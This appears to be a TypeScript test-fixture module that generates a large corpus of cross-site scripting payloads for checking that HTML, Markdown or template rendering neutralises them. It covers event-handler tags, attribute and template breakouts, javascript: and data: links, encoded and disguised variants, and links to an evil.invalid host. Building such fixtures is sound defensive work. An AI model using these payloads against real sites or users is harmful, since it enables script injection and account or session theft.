/** Words that try to be more than words: tags, handlers, links, ways out of templates, attributes, scripts and Markdown. */

/** What each of them would leave in a page if it got through: an attribute or a tag of this name, or a call of this function. */
export const MARK = 'pwn'

const CALL = `${MARK}ed()`
const PARENT = `parent.${MARK}ed()`

const TAGS = [
  `<script ${MARK}>${CALL}</script>`,
  `<script ${MARK} src="data:text/javascript,${CALL}"></script>`,
  `<img ${MARK} src=x onerror=${CALL}>`,
  `<img ${MARK} src="x" onerror="${CALL}"/>`,
  `<IMG ${MARK} SRC=x OnErRoR=${CALL}>`,
  `<img/${MARK}/src=x/onerror=${CALL}>`,
  `<svg ${MARK} onload=${CALL}>`,
  `<svg ${MARK}><script>${CALL}</script></svg>`,
  `<svg ${MARK}><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg ${MARK}><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg ${MARK}><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math ${MARK}><mtext><style><img ${MARK} src=x onerror=${CALL}></style></mtext></math>`,
  `<iframe ${MARK} srcdoc="<script>${PARENT}</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:${PARENT}"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>${PARENT}</script>"></object>`,
  `<embed ${MARK} src="javascript:${CALL}">`,
  `<body ${MARK} onload=${CALL}>`,
  `<details ${MARK} open ontoggle=${CALL}>x</details>`,
  `<video ${MARK}><source ${MARK} onerror=${CALL}></video>`,
  `<audio ${MARK} src=x onerror=${CALL}></audio>`,
  `<input ${MARK} autofocus onfocus=${CALL}>`,
  `<x-y ${MARK} tabindex=1 autofocus onfocus=${CALL}>x</x-y>`,
  `<form ${MARK} action="javascript:${CALL}"><button ${MARK}>x</button></form>`,
  `<button ${MARK} formaction="javascript:${CALL}" form=x>x</button>`,
  `<a ${MARK} href="javascript:${CALL}">x</a>`,
  `<a ${MARK} href="java&#x09;script:${CALL}">x</a>`,
  `<base ${MARK} href="//evil.invalid/">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link ${MARK} rel="stylesheet" href="data:text/css,*{display:none}">`,
  `<style ${MARK}>*{display:none!important}</style>`,
  `<template ${MARK} shadowrootmode="open"><p>x</p></template>`,
  `<noscript ${MARK}><p title="</noscript><img ${MARK} src=x onerror=${CALL}>">`,
  `<marquee ${MARK} onstart=${CALL}>x</marquee>`,
  `<p ${MARK} style="position:fixed;inset:0">x</p>`,
]

/** What may stand before a tag to be out of where the words stand: an attribute, a raw text, a comment, a template. */
const WAYS_OUT = [
  '">',
  "'>",
  '`>',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '-->',
  '<!--',
  ']]>',
  '<!--/lit-part-->',
  '<!--lit-part-->',
  '<?lit$0$?>',
  '${',
  '\\"',
  '\\u003c/script\\u003e',
  '\u2028',
]

const ATTRIBUTES = [
  `" onmouseover="${CALL}" ${MARK}="`,
  `' onmouseover='${CALL}' ${MARK}='`,
  ` onfocus=${CALL} autofocus tabindex=1 ${MARK}=`,
  `" style="animation-name:x" onanimationstart="${CALL}" ${MARK}="`,
  `" autofocus onfocus=${CALL} ${MARK}="`,
  `x" ${MARK}="1`,
]

const LINKS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `  javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript://example.org/%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `vbscript:${CALL}`,
  `//evil.invalid/`,
  `blob:https://evil.invalid/x`,
  `feed:javascript:${CALL}`,
  `view-source:javascript:${CALL}`,
]

/** Every link also as Markdown says one. */
const markdownLinks = (href: string) => [
  `[x](${href})`,
  `[x](<${href}>)`,
  `![x](${href})`,
  `[x][r]\n\n[r]: ${href}`,
  `<${href}>`,
]

const MARKDOWN = [
  `[x](https://example.org/" onmouseover="${CALL})`,
  `[x](https://example.org/ "t\\" onmouseover=\\"${CALL}")`,
  `[x](https://example.org/"><img/${MARK}/src=x/onerror=${CALL}>)`,
  `<https://example.org/"onmouseover="${CALL}>`,
  `https://example.org/"><script ${MARK}>${CALL}</script>`,
  `mailto:a@example.org"onclick="${CALL}`,
  `![x" onerror="${CALL}](x)`,
  `![<img ${MARK} src=x onerror=${CALL}>](https://example.org/x.png)`,
  `[<img ${MARK} src=x onerror=${CALL}>](https://example.org/)`,
  `# <svg ${MARK} onload=${CALL}>`,
  `> <script ${MARK}>${CALL}</script>`,
  `- <img ${MARK} src=x onerror=${CALL}>`,
  `**<img ${MARK} src=x onerror=${CALL}>**`,
  `\`<img ${MARK} src=x onerror=${CALL}>\``,
  `\`\`\`html\n<script ${MARK}>${CALL}</script>\n\`\`\``,
  `| a |\n|---|\n| <img ${MARK} src=x onerror=${CALL}> |`,
  `<div ${MARK}>\n\n*x*\n\n</div>`,
]

/** What only some reader, font or old decoder takes for a tag. */
const DISGUISED = [
  `&lt;script ${MARK}&gt;${CALL}&lt;/script&gt;`,
  `&#60;img ${MARK} src=x onerror=${CALL}&#62;`,
  `&amp;lt;script ${MARK}&amp;gt;${CALL}`,
  `%3Cscript%20${MARK}%3E${CALL}%3C/script%3E`,
  `\\x3cscript ${MARK}\\x3e${CALL}\\x3c/script\\x3e`,
  `\\u003cimg ${MARK} src=x onerror=${CALL}\\u003e`,
  `＜script ${MARK}＞${CALL}＜/script＞`,
  `‹img ${MARK} src=x onerror=${CALL}›`,
  `+ADw-script ${MARK}+AD4-${CALL}+ADw-/script+AD4-`,
  `\u202e<img ${MARK} src=x onerror=${CALL}>`,
  `<\u200bscript ${MARK}>${CALL}</script>`,
  `<scr<script ${MARK}>ipt>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{"__proto__":{"${MARK}":true}}`,
  `{"_$litType$":1,"strings":["<img ${MARK} src=x onerror=${CALL}>"],"values":[]}`,
]

/** Two hundred and more, each once, none longer than a line of a show file may be. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...TAGS,
    ...WAYS_OUT.flatMap((out, i) =>
      [0, 1, 2].map((step) => `${out}${TAGS[(i * 5 + step * 7) % TAGS.length]}`),
    ),
    ...ATTRIBUTES,
    ...LINKS,
    ...LINKS.flatMap(markdownLinks),
    ...MARKDOWN,
    ...DISGUISED,
  ]),
]

/** One that fits into so many characters; number `n` of them, round and round. */
export function payload(n: number, most = 400): string {
  const fitting = PAYLOADS.filter(({ length }) => length <= most)
  return fitting[n % fitting.length] as string
}
